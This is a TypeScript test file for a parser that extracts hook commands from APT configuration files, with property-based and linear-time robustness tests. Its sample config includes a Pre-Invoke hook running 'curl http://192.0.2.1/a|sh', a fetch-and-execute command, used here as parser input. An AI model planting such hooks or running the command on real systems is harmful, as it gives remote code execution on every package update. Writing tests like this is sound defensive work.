import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { assertGrowsLinearly } from '../../../test/growth.ts'
import { bytesOf, textOf } from '../../core/bytes.ts'
import { aptCommands } from './apt-conf.ts'

const sample = `// DPkg::Post-Invoke { "no"; };
APT::Update::Pre-Invoke {"curl http://192.0.2.1/a|sh";};
DPkg::Post-Invoke:: "one; two";
DPkg { Pre-Install-Pkgs { "/usr/sbin/dpkg-preconfigure --apt || true"; "x \\"y\\""; }; Options "--force"; };
/* DPkg::Post-Invoke "no"; */
Acquire::http::Proxy "http://p";
`

test('commands in every form, with the bytes that go', () => {
  const found = [...aptCommands(bytesOf(sample))]
  assert.deepEqual(
    found.map(c => [c.number, c.key, c.command]),
    [
      [2, 'APT::Update::Pre-Invoke', 'curl http://192.0.2.1/a|sh'],
      [3, 'DPkg::Post-Invoke', 'one; two'],
      [4, 'DPkg::Pre-Install-Pkgs', '/usr/sbin/dpkg-preconfigure --apt || true'],
      [4, 'DPkg::Pre-Install-Pkgs', 'x \\"y\\"'],
    ],
  )
  assert.equal(found[0]?.text, '"curl http://192.0.2.1/a|sh";')
  assert.equal(found[1]?.text, 'DPkg::Post-Invoke:: "one; two";')
})

test('any bytes: never throws, spans in order and as the text says', () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.uint8Array(),
        fc
          .array(fc.constantFrom('DPkg::Post-Invoke', '{', '}', '"', ';', ' ', '\n', 'é', '/*', '*/', '//', '\\'))
          .map(p => bytesOf(p.join(''))),
      ),
      bytes => {
        let at = 0
        for (const { span, text } of aptCommands(bytes)) {
          assert.ok(span.start >= at && span.end <= bytes.length)
          assert.equal(text, textOf(bytes.subarray(span.start, span.end)))
          at = span.end
        }
      },
    ),
  )
})

test('openers, quotes or blanks without end: reading takes as long as they are', () => {
  for (const piece of ['"', '/*', '{', 'a ', '\\"', ' ', '"\n'])
    assertGrowsLinearly(size => assert.deepEqual([...aptCommands(bytesOf(piece.repeat(size / piece.length)))], []), 8192, piece)
})
